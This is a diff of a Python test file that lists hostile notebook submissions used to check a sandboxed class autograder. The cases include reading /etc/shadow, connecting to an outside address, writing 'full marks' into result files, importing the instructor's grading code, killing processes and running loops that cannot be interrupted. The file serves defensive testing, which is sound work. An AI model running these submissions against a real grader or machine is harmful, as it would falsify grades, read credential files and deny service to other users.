@@ -1,47 +1,9 @@
-"""Hostile and broken submissions: what each tries, and what must become of it.
+"""Hostile submissions: those that attack the machine, the class and their neighbours, or use all there is."""
 
-Each begins with a right answer (one point). Its own cell follows, and then a second right answer (one point),
-which only counts where the attempt leaves the rest of the notebook to run. FOLDER stands for a class's folder,
-which any user of this machine may read and write, and PORT for a server on this machine.
-"""
-
-from collections.abc import Callable
-from dataclasses import dataclass, field
-
-import nbformat
-from nbformat.v4 import new_code_cell, new_notebook
-
-FIRST, LAST = "answer_first = 1994", "answer_last = 100_000"
-
-
-@dataclass(frozen=True)
-class Case:
-    """One submission: its cell or its bytes; the status, a piece of the reason, and the mark it must get."""
-
-    name: str
-    tries: str
-    made: str | Callable
-    status: str = "ran"
-    reason: str = ""
-    mark: int = 2
-    limits: dict = field(default_factory=dict)
-
-    def build(self, folder, port):
-        """Return the bytes of the file that is handed in."""
-        if callable(self.made):
-            return self.made()
-        return notebook(FIRST, self.made.replace("FOLDER", str(folder)).replace("PORT", str(port)), LAST)
-
-
-def notebook(*sources):
-    """Return the bytes of a notebook with these code cells."""
-    made = new_notebook(cells=[new_code_cell(source) for source in sources])
-    made.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
-    return nbformat.writes(made).encode()
-
+from hostile_case import FIRST, LAST, Case, notebook
 
 WRITE = """
-for place in "FOLDER/results/ps1.json", "FOLDER/hostile", "/hostile", "/usr/bin/python3", "/book/data/terms.csv":
+for place in "FOLDER/results/kim.json", "FOLDER/new", "/hostile", "/usr/bin/python3", "/book/data/terms.csv":
     try: open(place, "w").write("full marks")
     except OSError: pass
 """
@@ -130,6 +92,10 @@ subprocess.run(["su", "-c", "touch FOLDER/hostile"], stdin=subprocess.DEVNULL)
 assert os.getuid() != 0
 """
 
+ABROAD = "import socket; socket.create_connection(('192.0.2.1', 80), 2)"
+SHORT = {"wall": 5}
+LOOP = "from itertools import repeat; all(repeat(1))"
+DEAD, OWN = "could not be interrupted", "by the notebook's own code"
 CONNECT = "import socket; socket.create_connection(('127.0.0.1', PORT), 2).send(b'hello')"
 THREADS = """
 import threading, time
@@ -139,12 +105,12 @@ for number in range(10_000): threading.Thread(target=time.sleep, args=(60,), dae
 
 def slow():
     """Return a notebook that is slow in many cells, and in each for less than its time."""
-    return notebook(FIRST, *["import time; time.sleep(1.5)"] * 12, LAST)
+    return notebook(FIRST, *["import time; time.sleep(1.5)"] * 9, LAST)
 
 
 ATTACKS = [
     Case("network", "connects to a server on this machine", CONNECT),
-    Case("internet", "sends the data abroad", "import socket; socket.create_connection(('192.0.2.1', 80), 2)"),
+    Case("internet", "sends the data abroad", ABROAD),
     Case("DNS", "asks for a name", "import socket; socket.getaddrinfo('example.org', 80)"),
     Case("passwords", "reads /etc/shadow", "print(open('/etc/shadow').read())"),
     Case("hidden rules", "imports the instructor's side", "from seminar.problem_set import *"),
@@ -161,11 +127,11 @@ ATTACKS = [
     Case("disk", "writes 100,000 files", FILL, limits={"cell": 10}),
     Case("output", "prints 50 MB", "print('x' * 50_000_000)"),
     Case("endless loop", "never ends", "while True: pass"),
-    Case("stubborn loop", "catches every interruption", STUBBORN, "stopped", "could not be interrupted", 1),
-    Case("deaf loop", "blocks every signal", DEAF, "stopped", "could not be interrupted", 1),
-    Case("loop in C", "never returns to Python", "from itertools import repeat; all(repeat(1))", "stopped", "could not be interrupted", 1),
-    Case("slow and steady", "stays within each cell's time, in many cells", slow, "stopped", "seconds in all", 1),
-    Case("os._exit", "ends Python at once", "import os; os._exit(0)", "stopped", "by the notebook's own code", 1),
+    Case("stubborn loop", "catches every interruption", STUBBORN, "stopped", DEAD, 1),
+    Case("deaf loop", "blocks every signal", DEAF, "stopped", DEAD, 1),
+    Case("loop in C", "never returns to Python", LOOP, "stopped", DEAD, 1),
+    Case("slow and steady", "takes each cell's time, in many cells", slow, "stopped", "in all", 1, SHORT),
+    Case("os._exit", "ends Python at once", "import os; os._exit(0)", "stopped", OWN, 1),
     Case("sys.exit", "ends Python politely", "import sys; sys.exit('done')"),
     Case("kill", "kills itself", "import os; os.kill(os.getpid(), 9)", "stopped", "was killed", 1),
     Case("kill parents", "signals every process it can name", KILLER),
